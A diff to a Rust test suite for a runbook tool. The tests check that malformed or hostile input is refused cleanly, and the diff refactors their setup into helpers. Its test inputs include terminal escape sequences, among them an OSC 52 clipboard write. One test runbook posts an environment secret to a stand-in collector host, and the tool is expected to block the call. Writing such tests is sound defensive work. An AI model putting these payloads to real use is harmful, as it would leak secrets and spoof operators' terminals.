@@ -1,8 +1,7 @@
 //! Hostile input: malformed runbooks, answers, scenarios and params each get a clear error
 //! and an exit code, never a panic or a hang.
 
-use crate::support::Exit;
-use crate::support::{Output, Test};
+use crate::support::{prompts_answered, with_script, Exit, Output, Test};
 
 fn no_panic(out: &Output) {
     assert!(!out.stderr.contains("panicked"), "panic:\n{}", out.stderr);
@@ -14,8 +13,16 @@ fn no_panic(out: &Output) {
     );
 }
 
+/// `exec postmark --sandbox --yes`, then `extra`, from the shipped runbooks.
+fn rehearsal(extra: &[&str]) -> Test {
+    Test::new()
+        .rehearse("postmark")
+        .args(&["--yes"])
+        .args(extra)
+}
+
 fn check_text(name: &str, text: &str) -> Output {
-    let out = Test::new().file(name, text).args(&["check", name]).run();
+    let out = with_script("check", name, text).run();
     no_panic(&out);
     out
 }
@@ -84,11 +91,7 @@ fn a_runbook_path_that_is_a_directory_is_refused() {
 #[test]
 fn deeply_nested_answers_are_refused() {
     let nested = format!("{{\"a\": {}1{}}}", "[".repeat(100_000), "]".repeat(100_000));
-    let out = Test::new()
-        .fixture("prompts.rhai")
-        .file("nested.json", &nested)
-        .args(&["exec", "prompts.rhai", "--answers", "nested.json"])
-        .run();
+    let out = prompts_answered("nested.json", &nested).run();
     no_panic(&out);
     out.exit(Exit::Usage)
         .stderr_has("nested.json:1:")
@@ -97,11 +100,11 @@ fn deeply_nested_answers_are_refused() {
 
 #[test]
 fn answers_of_the_wrong_type_name_the_prompt() {
-    let out = Test::new()
-        .fixture("prompts.rhai")
-        .file("a.toml", "prerequisites = true\ncolor = \"green\"\ntoken = \"t-0123456789\"\nproceed = \"maybe\"\n")
-        .args(&["exec", "prompts.rhai", "--answers", "a.toml"])
-        .run();
+    let out = prompts_answered(
+        "a.toml",
+        "prerequisites = true\ncolor = \"green\"\ntoken = \"t-0123456789\"\nproceed = \"maybe\"\n",
+    )
+    .run();
     no_panic(&out);
     out.exit(Exit::StepFailed)
         .stderr_has("answer to prompt 'proceed' is not usable: expected true or false");
@@ -109,7 +112,6 @@ fn answers_of_the_wrong_type_name_the_prompt() {
 
 #[test]
 fn malformed_scenarios_and_faults_are_usage_errors() {
-    let root = env!("CARGO_MANIFEST_DIR");
     for (file, text, expect) in [
         ("bad.toml", "[postmark\n", "invalid sandbox scenario"),
         (
@@ -123,25 +125,11 @@ fn malformed_scenarios_and_faults_are_usage_errors() {
             "unknown field",
         ),
     ] {
-        let out = Test::new()
-            .file(file, text)
-            .env("RUNBOOK_PATH", &format!("{root}/runbooks"))
-            .args(&["exec", "postmark", "--sandbox", "--yes", "--scenario", file])
-            .run();
+        let out = rehearsal(&[]).scenario(file, text).run();
         no_panic(&out);
         out.exit(Exit::Usage).stderr_has(expect);
     }
-    let out = Test::new()
-        .env("RUNBOOK_PATH", &format!("{root}/runbooks"))
-        .args(&[
-            "exec",
-            "postmark",
-            "--sandbox",
-            "--yes",
-            "--fault",
-            "postmark:GET:/server=teapot",
-        ])
-        .run();
+    let out = rehearsal(&["--fault", "postmark:GET:/server=teapot"]).run();
     no_panic(&out);
     out.exit(Exit::Usage)
         .stderr_has("invalid fault 'postmark:GET:/server=teapot'");
@@ -149,25 +137,11 @@ fn malformed_scenarios_and_faults_are_usage_errors() {
 
 #[test]
 fn hostile_params_are_refused_or_reach_the_checks_intact() {
-    let root = env!("CARGO_MANIFEST_DIR");
-    let out = Test::new()
-        .env("RUNBOOK_PATH", &format!("{root}/runbooks"))
-        .args(&["exec", "postmark", "--sandbox", "--yes", "--param", "=x"])
-        .run();
+    let out = rehearsal(&["--param", "=x"]).run();
     no_panic(&out);
     out.exit(Exit::Usage)
         .stderr_has("is not of the form NAME=VALUE");
-    let out = Test::new()
-        .env("RUNBOOK_PATH", &format!("{root}/runbooks"))
-        .args(&[
-            "exec",
-            "postmark",
-            "--sandbox",
-            "--yes",
-            "--param",
-            "server_name=raxx-prod\u{202e}🚀",
-        ])
-        .run();
+    let out = rehearsal(&["--param", "server_name=raxx-prod\u{202e}🚀"]).run();
     no_panic(&out);
     out.exit(Exit::StepFailed)
         .stderr_has("not 'raxx-prod\u{202e}🚀'");
@@ -175,23 +149,15 @@ fn hostile_params_are_refused_or_reach_the_checks_intact() {
 
 #[test]
 fn plain_http_to_a_remote_host_is_refused_and_tls_cannot_be_turned_off() {
-    let out = Test::new()
-        .file(
-            "plain.rhai",
-            "runbook(#{ id: \"p\", title: \"t\", egress: [\"example.com\"] });\nstep(\"a\", \"A\", |ctx| { http::get(\"http://example.com/\"); });\n",
-        )
-        .args(&["exec", "plain.rhai"])
+    let out = with_script("exec", "plain.rhai", "runbook(#{ id: \"p\", title: \"t\", egress: [\"example.com\"] });\nstep(\"a\", \"A\", |ctx| { http::get(\"http://example.com/\"); });\n",
+)
         .run();
     no_panic(&out);
     out.exit(Exit::StepFailed)
         .stderr_has("plain.rhai:2:30:")
         .stderr_has("http://");
-    let out = Test::new()
-        .file(
-            "insecure.rhai",
-            "runbook(#{ id: \"i\", title: \"t\", egress: [\"example.com\"] });\nstep(\"a\", \"A\", |ctx| { http::get(\"https://example.com/\", #{ insecure: true }); });\n",
-        )
-        .args(&["exec", "insecure.rhai"])
+    let out = with_script("exec", "insecure.rhai", "runbook(#{ id: \"i\", title: \"t\", egress: [\"example.com\"] });\nstep(\"a\", \"A\", |ctx| { http::get(\"https://example.com/\", #{ insecure: true }); });\n",
+)
         .run();
     no_panic(&out);
     out.exit(Exit::StepFailed)
@@ -206,39 +172,30 @@ step("show", "Show the ratio", |ctx| {
 });
 "#;
 
+/// ratio.rhai run with `--param ratio=VALUE`.
+fn ratio(value: &str) -> Output {
+    with_script("exec", "ratio.rhai", FLOAT_PARAM)
+        .args(&["--yes", "--param"])
+        .arg(format!("ratio={value}"))
+        .run()
+}
+
 #[test]
 fn a_float_param_parses_as_a_float() {
-    Test::new()
-        .file("ratio.rhai", FLOAT_PARAM)
-        .args(&["exec", "ratio.rhai", "--yes", "--param", "ratio=2.5"])
-        .run()
-        .exit(Exit::Ok)
-        .stdout_has("ratio=5.0");
+    ratio("2.5").exit(Exit::Ok).stdout_has("ratio=5.0");
 }
 
 #[test]
 fn a_float_param_refuses_words_and_infinities_echoing_little() {
     for bad in ["many", "inf", "NaN"] {
-        Test::new()
-            .file("ratio.rhai", FLOAT_PARAM)
-            .args(&[
-                "exec",
-                "ratio.rhai",
-                "--yes",
-                "--param",
-                &format!("ratio={bad}"),
-            ])
-            .run()
-            .exit(Exit::Usage)
-            .stderr_has(&format!(
-                "param 'ratio' expects a number such as 2.5, got '{bad}'"
-            ));
+        ratio(bad).exit(Exit::Usage).stderr_has(&format!(
+            "param 'ratio' expects a number such as 2.5, got '{bad}'"
+        ));
     }
     // A single argument is capped at 128 KiB by the kernel.
     let long = "9".repeat(100_000);
-    let out = Test::new()
-        .file("prompts.rhai", "runbook(#{ id: \"n\", title: \"t\" });\nparam(\"n\", #{ default: 3 });\nstep(\"s\", \"S\", |ctx| {});\n")
-        .args(&["exec", "prompts.rhai", "--yes", "--param", &format!("n=x{long}")])
+    let out = with_script("exec", "prompts.rhai", "runbook(#{ id: \"n\", title: \"t\" });\nparam(\"n\", #{ default: 3 });\nstep(\"s\", \"S\", |ctx| {});\n")
+        .args(&["--yes", "--param", &format!("n=x{long}")])
         .run();
     out.exit(Exit::Usage);
     assert!(
@@ -251,34 +208,20 @@ fn a_float_param_refuses_words_and_infinities_echoing_little() {
 #[test]
 fn a_fault_pattern_of_many_wildcards_does_not_spin() {
     // Forty `**` that never match: backtracking spun on every request of the rotation.
-    let root = env!("CARGO_MANIFEST_DIR");
     let fault = format!("postmark:GET:/{}nowhere=503", "**".repeat(40));
-    let out = Test::new()
-        .env("RUNBOOK_PATH", &format!("{root}/runbooks"))
-        .args(&["exec", "postmark", "--sandbox", "--yes", "--fault", &fault])
-        .run();
+    let out = rehearsal(&["--fault", &fault]).run();
     out.exit(Exit::Ok).stdout_has("succeeded");
 }
 
 #[test]
 fn a_malformed_scenario_names_its_line_not_its_text() {
-    let root = env!("CARGO_MANIFEST_DIR");
     let canary = "pm-canary-scenario-0123456789";
-    let out = Test::new()
-        .file(
+    let out = rehearsal(&[])
+        .unscanned()
+        .scenario(
             "bad.toml",
             &format!("[postmark]\ncurrent_token = \"{canary}\n"),
         )
-        .unscanned()
-        .env("RUNBOOK_PATH", &format!("{root}/runbooks"))
-        .args(&[
-            "exec",
-            "postmark",
-            "--sandbox",
-            "--yes",
-            "--scenario",
-            "bad.toml",
-        ])
         .run();
     no_panic(&out);
     out.exit(Exit::Usage)
@@ -323,9 +266,8 @@ step("spin", "Sleeps forever", |ctx| {
     loop { time::sleep(1); }
 }).timeout("2s");
 "#;
-    let out = Test::new()
-        .file("slow.rhai", runbook)
-        .args(&["exec", "slow.rhai", "--yes"])
+    let out = with_script("exec", "slow.rhai", runbook)
+        .args(&["--yes"])
         .run();
     out.exit(Exit::StepFailed)
         .stderr_has("runbook::timeout")
@@ -334,10 +276,7 @@ step("spin", "Sleeps forever", |ctx| {
     let bad = r#"runbook(#{ id: "bad", title: "Bad timeout" });
 step("s", "S", |ctx| {}).timeout("soon");
 "#;
-    let out = Test::new()
-        .file("bad.rhai", bad)
-        .args(&["check", "bad.rhai"])
-        .run();
+    let out = with_script("check", "bad.rhai", bad).run();
     no_panic(&out);
     out.stderr_has(".timeout(\"soon\"): not a duration between 1s and 24h");
 }
@@ -440,32 +379,18 @@ step("get", "Read a huge answer", |ctx| {
 "#;
     for chunked in [false, true] {
         let url = huge_answer_server(3 << 20, chunked);
-        let out = Test::new()
-            .file("big.rhai", runbook)
+        let out = with_script("exec", "big.rhai", runbook)
             .env("RUNBOOK_MAX_RESPONSE_MB", "1")
-            .args(&[
-                "exec",
-                "big.rhai",
-                "--yes",
-                "--param",
-                &format!("url={url}"),
-            ])
+            .args(&["--yes", "--param", &format!("url={url}")])
             .run();
         out.exit(Exit::StepFailed)
             .stderr_has("the answer is larger than 1 MiB, the most runbook reads")
             .stderr_has("raise RUNBOOK_MAX_RESPONSE_MB");
         assert!(!out.stdout.contains("read "), "{}", out.stdout);
     }
-    let out = Test::new()
-        .file("big.rhai", runbook)
+    let out = with_script("exec", "big.rhai", runbook)
         .env("RUNBOOK_MAX_RESPONSE_MB", "lots")
-        .args(&[
-            "exec",
-            "big.rhai",
-            "--yes",
-            "--param",
-            "url=http://127.0.0.1:9",
-        ])
+        .args(&["--yes", "--param", "url=http://127.0.0.1:9"])
         .run();
     no_panic(&out);
     out.stderr_has("RUNBOOK_MAX_RESPONSE_MB");
@@ -479,9 +404,8 @@ step(\"s\", \"Step \\x1b[2J\", |ctx| {\n\
     print(\"before\\x1b[2J\\x1b[Hfake all clear\\rover\");\n\
     fail(\"vendor said \\x1b[31mred\\x1b]52;c;cHduZWQ=\\x07\");\n\
 });\n";
-    let out = Test::new()
-        .file("esc.rhai", runbook)
-        .args(&["exec", "esc.rhai", "--yes", "--actor", "ops\u{1b}[8m"])
+    let out = with_script("exec", "esc.rhai", runbook)
+        .args(&["--yes", "--actor", "ops\u{1b}[8m"])
         .run();
     out.exit(Exit::StepFailed);
     for (name, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
@@ -501,9 +425,8 @@ fn a_huge_identifier_is_not_echoed_whole() {
     let runbook = format!(
         "runbook(#{{ id: \"long\", title: \"Long\" }});\nstep(\"s\", \"S\", |ctx| {{ {name}(); }});\n"
     );
-    let out = Test::new()
-        .file("long.rhai", &runbook)
-        .args(&["exec", "long.rhai", "--yes"])
+    let out = with_script("exec", "long.rhai", &runbook)
+        .args(&["--yes"])
         .run();
     no_panic(&out);
     out.stderr_has("more characters not shown");
@@ -525,9 +448,8 @@ step("s", "Nest", |ctx| {
     ctx.deep = a;
 });
 "#;
-    let out = Test::new()
-        .file("deep.rhai", runbook)
-        .args(&["exec", "deep.rhai", "--yes"])
+    let out = with_script("exec", "deep.rhai", runbook)
+        .args(&["--yes"])
         .run();
     out.exit(Exit::StepFailed)
         .stderr_has("runbook::script::too_large");
@@ -556,10 +478,9 @@ step("send", "Send", |ctx| {
     http::post("https://collector.evil.example/drop", #{ json: #{ k: key } });
 }).no_undo("a test");
 "#;
-    let out = Test::new()
-        .file("exfil.rhai", runbook)
+    let out = with_script("exec", "exfil.rhai", runbook)
         .env("THE_KEY", "egress-secret-77aa88bb")
-        .args(&["exec", "exfil.rhai", "--yes"])
+        .args(&["--yes"])
         .run();
     out.exit(Exit::StepFailed)
         .stdout_has("egress: api.vendor.example, app.example.org:8443 · loopback")
